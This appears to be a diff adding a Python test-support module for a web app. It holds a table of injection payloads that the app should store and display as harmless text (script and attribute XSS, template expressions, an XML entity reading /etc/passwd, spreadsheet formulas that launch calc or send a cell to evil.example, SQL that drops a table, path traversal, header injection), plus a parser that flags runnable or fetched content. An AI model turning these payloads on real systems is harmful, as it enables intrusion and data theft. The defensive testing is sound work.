@@ -1,0 +1,135 @@
+"""What somebody may write so that it runs, opens, breaks out or misleads somewhere: one table for every test.
+
+Whatever would run calls ``alert``; whatever is worked out by a template gives ``WORKED_OUT``; whatever is fetched is
+fetched from ``STRANGER``. ``EVERYWHERE`` is taken as text by every field, ``NOWHERE`` is refused by every field.
+"""
+
+import re
+import unicodedata
+from html.parser import HTMLParser
+
+STRANGER = "evil.example"
+WORKED_OUT = "67092481"
+"""8191 times 8191, which stands nowhere else."""
+
+EVERYWHERE = {
+    "script": "<script>alert(1)</script>",
+    "the end of a script": "</script><script>alert(1)</script>",
+    "the end of a title": "</title></textarea></style></svg><script>alert(1)</script>",
+    "an image": "<img src=x onerror=alert(1)>",
+    "a stranger's image": f"<img src=//{STRANGER}/a.png><link rel=stylesheet href=//{STRANGER}/a.css>",
+    "svg": "<svg/onload=alert(1)><use href=data:image/svg+xml,x />",
+    "a frame": f'<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=//{STRANGER}/a></object>',
+    "a base": f"<base href=//{STRANGER}/><meta http-equiv=refresh content=0;url=//{STRANGER}/>",
+    "a form": f"<form action=//{STRANGER}/><button autofocus onfocus=alert(1)>",
+    "an attribute": '" autofocus onfocus="alert(1)" x="',
+    "an attribute in single quotes": "' autofocus onfocus='alert(1)' x='",
+    "an attribute without quotes": "x onmouseover=alert(1) style=background:url(//evil.example/a)",
+    "a template literal": "${alert(1)}`${alert(1)}`",
+    "an expression": "{{8191*8191}}${8191*8191}#{8191*8191}<%= 8191*8191 %>",
+    "globals": "{{ self.__init__.__globals__ }}{{ config }}{{ words }}",
+    "a statement": "{% for i in range(9) %}x{% endfor %}{% raw %}",
+    "a comment of a template": "{# x #}{#",
+    "a comment": "<!-- <script>",
+    "an address that runs": "javascript:alert(1)//",
+    "markdown": f"[x](javascript:alert(1)) ![x](//{STRANGER}/a.png)",
+    "the end of character data": "]]><script>alert(1)</script><![CDATA[",
+    "the end of character data alone": "a ]]> b",
+    "an element of its own": f"]]> </SimpleData><NetworkLink><href>//{STRANGER}/a</href></NetworkLink> &e; &A1;",
+    "character references": "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
+    "an entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
+    "escapes": r"\u003cscript\u003ealert(1)\x3c/script\x3e \074script\076",
+    "a format": "{0.__class__} {name} {n} %s %(name)s $[name] $[description]",
+    "separators of lines": "a\u2028alert(1)//\u2029b\u0085c",
+    "a head of its own": "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
+    "a formula": f'=HYPERLINK("http://{STRANGER}/?"&A1;"x")',
+    "a formula with plus": "+cmd|' /C calc'!A0",
+    "a formula with minus": "-2+3+cmd|' /C calc'!A0",
+    "a formula with at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a formula in full width": '＝HYPERLINK("x")',
+    "a formula behind a separator": "x;=1+1\t=1+1\n=1+1",
+    "sql": "'; drop table app.works; --",
+    "a path": "../../../../etc/passwd",
+    "quotes": "\"'`\\",
+    "combining marks": unicodedata.normalize("NFC", "a" + "\u0323\u0301" * 40),
+}
+"""Text like any other: kept as it was written and shown as it was written."""
+
+NOWHERE = {
+    "nul": "a\0b",
+    "an escape sequence": "\x1b[2J\x1b]0;x\x07",
+    "a control of the second kind": "a\x9bb",
+    "right to left override": "a\u202eb",
+    "an isolate": "a\u2066b",
+    "an arabic letter mark": "a\u061cb",
+    "nothing to see": "a\u200bb",
+    "a byte order mark": "\ufeffa",
+    "a lone surrogate": "a\ud800b",
+    "no character": "a\ufffeb\uffff",
+    "tags": "a\U000e0041\U000e0042b",
+}
+"""What nobody types and what misleads or breaks XML: refused, and the field is named."""
+
+ALL = " ".join(one for name, one in EVERYWHERE.items() if name != "combining marks")
+"""Everything at once, for a field that is shown once."""
+
+SHORT = "\"'`><img src=x onerror=alert(1)></script><script>alert(1)</script><!--{{8191*8191}}${alert(1)}{% x"
+"""The worst of it where there is little room."""
+
+MARKUP = [one for one in EVERYWHERE.values() if "<" in one]
+
+
+class _Reading(HTMLParser):
+    """What a browser's parser makes of a page, as far as something of somebody's could run or be fetched in it."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.faults: list[str] = []
+        self.said: list[str] = []
+        self.within = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.within = tag
+        given = {name: value or "" for name, value in attrs}
+        if tag == "script" and given.get("type") != "application/json":
+            if not re.fullmatch(r"/(static/[\w./-]+\.js|map\.js)", given.get("src", "")):
+                self.faults.append(f"script {given}")
+            self.within = "code"
+        if tag in ("iframe", "object", "embed", "base", "frame", "applet"):
+            self.faults.append(tag)
+        for name, value in given.items():
+            if name.startswith("on") or name in ("srcdoc", "http-equiv", "formaction"):
+                self.faults.append(f"{tag} {name}={value}")
+            if name in ("href", "src", "action", "data", "poster", "xlink:href") and not re.match(
+                r"(/(?!/)|#|\?|http://localhost:\d+/|https?://www\.opengis\.net/|https?://www\.openstreetmap\.org/)",
+                value,
+            ):
+                self.faults.append(f"{tag} {name}={value}")
+            self.said.append(value)
+
+    def handle_endtag(self, tag: str) -> None:
+        self.within = ""
+
+    def handle_data(self, data: str) -> None:
+        if self.within == "code" and data.strip():
+            self.faults.append(f"code {data[:60]}")
+        self.said.append(data)
+
+    def handle_comment(self, data: str) -> None:
+        self.faults.append(f"comment {data[:60]}")
+
+
+def read(html: str) -> tuple[list[str], str]:
+    """What could run, be fetched or break out in a page, and the text that a reader sees of it, attributes too."""
+    reading = _Reading()
+    reading.feed(html)
+    reading.close()
+    faults = reading.faults + [f"stands there as it is: {one}" for one in MARKUP if one in html]
+    if WORKED_OUT in html:
+        faults.append("worked out")
+    return faults, "\n".join(reading.said)
+
+
+def fitting(text: str, room: int) -> str:
+    """``text``, or the worst of it where it is too long."""
+    return text if len(text) <= room else SHORT if len(SHORT) <= room else SHORT[:room]
